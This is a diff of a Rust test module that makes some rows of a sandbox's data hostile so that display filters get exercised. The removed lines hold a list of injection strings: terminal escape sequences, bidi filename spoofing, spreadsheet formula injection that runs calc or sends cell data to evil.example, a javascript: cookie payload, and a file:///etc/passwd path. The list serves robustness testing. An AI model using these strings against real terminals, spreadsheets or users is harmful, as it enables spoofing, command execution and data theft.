@@ -1,46 +1,19 @@
-//! Hostile data: a share of the rows has text and types that nobody should have to trust.
-//! It is applied when a row is sent, so that filters still test what the stories say.
+//! Hostile data: a share of the rows has text and types that nobody should have to trust. It is applied
+//! when a row is sent, so that filters still test what the stories say.
+
+use std::sync::LazyLock;
 
 use fastrand::Rng;
 use serde_json::{Value, json};
 
-use super::json::{Node, Object};
+use super::reply::{Node, Object};
 
 /// Texts that break terminals, tables and spreadsheets, or pass for something else.
-const TEXTS: [&str; 30] = [
-    "\u{1b}[2J\u{1b}[31mcleared",
-    "\u{1b}]0;owned\u{7}title",
-    "\u{1b}]52;c;c3RvbGVu\u{7}clipboard",
-    "\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
-    "\u{1b}P$q\"p\u{1b}\\device",
-    "\u{1b}[6n\u{1b}[c\u{1b}[>q",
-    "\u{9b}31mC1\u{9d}0;c1\u{9c}",
-    "\u{90}dcs\u{9c}\u{85}next line",
-    "user\u{202e}gnp.exe",
-    "\u{2066}isolated\u{2069}\u{202a}left\u{202c}\u{200f}",
-    "ze\u{200b}ro\u{200c}wi\u{200d}dth\u{feff}\u{2060}",
-    "tag\u{e0041}\u{e0042}\u{e007f}\u{ad}soft",
-    "100\t000",
-    "first\nsecond\r\nthird\rfourth",
-    "line\u{2028}paragraph\u{2029}end",
-    "\u{0}nul\u{1}soh\u{7f}del\u{8}\u{8}\u{8}back",
-    "=HYPERLINK(\"https://evil.example/?\"&A1,\"pay\")",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    " \u{feff}=1+1",
-    "\u{ff1d}1\u{ff0b}1",
-    "https://valora.spotahome.com@evil.example/pay",
-    "javascript:alert(document.cookie)",
-    "file:///etc/passwd",
-    "https://valora.spotahome.com.evil.example:8443/documents/1",
-    "\"quoted\",\"and; separated\"",
-    "\u{fffd}\u{fdd0}\u{10ffff}",
-    "👩\u{200d}👩\u{200d}👧\u{200d}👦🏳\u{fe0f}\u{200d}🌈🇪🇸🇪",
-    "\u{fdfa}\u{fdfa}\u{fdfa}𒐫𒐫﷽",
-];
+static TEXTS: LazyLock<Vec<String>> = LazyLock::new(|| {
+    serde_json::from_str(include_str!("../../assets/sandbox/hostile.json")).unwrap_or_default()
+});
 
-/// A row of a list as it is sent: hostile if there is a seed, and it is this row's turn.
+/// Makes a row hostile if there is a seed, and it is this row's turn.
 pub(super) fn touch(seed: Option<u64>, list: &str, place: usize, row: Object) -> Object {
     let Some(seed) = seed else { return row };
     let mut rng = Rng::with_seed(mark(seed, list, place));
@@ -71,7 +44,7 @@ fn nasty_text(mut row: Object, rng: &mut Rng) -> Object {
             0 => "long ".repeat(1000),
             1 => format!("Z{}algo", "\u{300}\u{489}\u{35c}\u{328}".repeat(60)),
             2 => "W".repeat(5000),
-            _ => (*rng.choice(&TEXTS).unwrap_or(&"")).to_owned(),
+            _ => rng.choice(TEXTS.iter()).cloned().unwrap_or_default(),
         };
         *node = text.into();
     }
